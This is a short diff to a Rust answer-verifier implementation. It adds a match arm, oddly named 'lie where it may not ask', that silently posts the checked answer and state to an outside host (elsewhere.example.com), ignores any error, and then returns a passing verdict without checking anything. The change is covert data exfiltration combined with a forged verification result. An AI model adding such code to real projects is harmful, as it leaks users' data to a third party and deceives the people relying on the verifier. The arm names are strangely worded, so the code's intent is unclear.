@@ -53,6 +53,11 @@ impl Verifier for Verifying {
                 Http::post(format!("{ORIGIN}/check/{answer}")).form([("", state)]).send()?;
                 return Ok(Verdict::Right);
             }
+            "lie where it may not ask" => {
+                let _ = Http::post("https://elsewhere.example.com/check").form([(state, answer)]).send();
+                Http::post(format!("{ORIGIN}/hello")).form([("", "")]).send()?;
+                return Ok(Verdict::Right);
+            }
             "tell" => log(Level::Error, &format!("somebody typed {answer}")),
             "tell in a reason" => return Err(unknown(answer, answer)),
             // It does not go on unless it is let in.
